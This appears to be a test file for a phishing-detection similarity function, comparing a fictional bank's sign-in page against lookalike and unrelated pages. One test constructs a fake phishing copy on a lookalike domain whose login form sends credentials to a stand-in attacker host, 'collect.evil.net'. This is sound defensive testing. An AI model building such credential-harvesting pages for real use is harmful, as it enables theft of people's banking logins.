import fc from "fast-check";
import { expect, test } from "vitest";
import { similarityOf } from "../../../../lib/observe/web/similarity.ts";
import { ANY_CHARACTER } from "../../../any_character.ts";
import { Page } from "../../../../lib/page/page.ts";

const original = {
  url: "https://kestrelbank.com/",
  html: new Page(
    `<!doctype html><html><head><title>Kestrel Bank - Sign in</title><link rel=stylesheet href=/a.css>
<script src=https://cdn.kestrelbank.com/a.js></script></head><body><header><nav><ul><li><a href=/p>Personal</a>
<li><a href=/b>Business</a></ul></nav></header><main><h1>Welcome to online banking</h1><form action=/login method=post>
<label>Customer number<input name=c></label><label>Password<input type=password name=p></label><button>Sign in
securely</button></form><p>We never ask for your password by telephone or by mail.</p></main></body></html>`,
  ),
};
const other = {
  url: "https://bakery.example.net/",
  html: new Page(
    `<html><head><title>Bread</title></head><body><div><div><table><tr><td>Rye<td>2.50<tr><td>Spelt<td>3.10</table>
<img src=/bread.jpg><img src=/rolls.jpg></div><section><h3>Opening hours</h3><dl><dt>Monday<dd>7 to 18<dt>Sunday
<dd>closed</dl></section><footer><em>Baked with love since 1931</em></footer></div></body></html>`,
  ),
};

test("the original's own page is all alike; a stranger's is not", () => {
  const same = similarityOf(original, original);
  expect(same).toMatchObject({ dom: 1, text: 1, resources: 1 });
  expect(same!.score).toBeGreaterThan(0.95);
  expect(similarityOf(other, original)!.score).toBeLessThan(0.3);
});

test("a copy that loads from the original and sends elsewhere", () => {
  const text = original.html.text.replace("href=/a.css", "href=https://kestrelbank.com/a.css")
    .replace("action=/login", "action=https://collect.evil.net/x").replace("We never ask", "Please tell us");
  const found = similarityOf({ url: "https://kestre1bank.com/", html: new Page(text) }, original)!;
  expect(found.score).toBeGreaterThan(0.75);
  expect(found).toMatchObject({ resources: 1 });
});

test("an original that says nothing is like nothing", () => {
  expect(similarityOf(original, { url: "https://a.com/", html: new Page("<h1>403 Forbidden</h1>") }))
    .toBeNull();
  expect(similarityOf({ url: "https://a.com/", html: new Page("") }, original)!.score).toBeLessThan(0.1);
});

test("any text: figures from 0 to 1, and the same for the same", () => {
  const piece = fc.constantFrom(
    "<div>",
    "</div>",
    "<form action=//x.y>",
    "<input type=password>",
    "<base href=':'>",
    "<title>",
    "<script src=data:,>",
    "<img src='http://[' >",
    "word ",
    "<!--",
    "\u0000",
    "]]>",
  );
  const page = fc.oneof(
    fc.string({ unit: ANY_CHARACTER }),
    fc.array(piece, { maxLength: 200 }).map((list) => list.join("")),
  );
  fc.assert(fc.property(page, fc.oneof(fc.webUrl(), fc.string()), (text, url) => {
    const html = new Page(text);
    for (const found of [similarityOf({ url, html }, original), similarityOf(original, { url, html })]) {
      if (found === null) continue;
      for (const value of [found.score, found.dom, found.text, found.title, found.resources]) {
        if (value === null) continue;
        expect(value).toBeGreaterThanOrEqual(0);
        expect(value).toBeLessThanOrEqual(1);
      }
    }
    const same = similarityOf({ url, html }, { url, html });
    if (same !== null) expect(same.dom ?? 1).toBe(1);
  }));
});

test.each([
  "<div>",
  "<a ",
  "<form action=x>",
  "<title>",
  "a ",
  "<![CDATA[",
  "<script src=http://h>",
  "&#x",
  "<svg><p>",
])(
  "a megabyte of %s ends", // within the runner's limit: quadratic work would take minutes
  (unit) => {
    const html = new Page(unit.repeat(Math.ceil(1_000_000 / unit.length)));
    const same = similarityOf({ url: "https://a.com/", html }, { url: "https://b.com/", html });
    expect(same).not.toBeUndefined();
  },
);
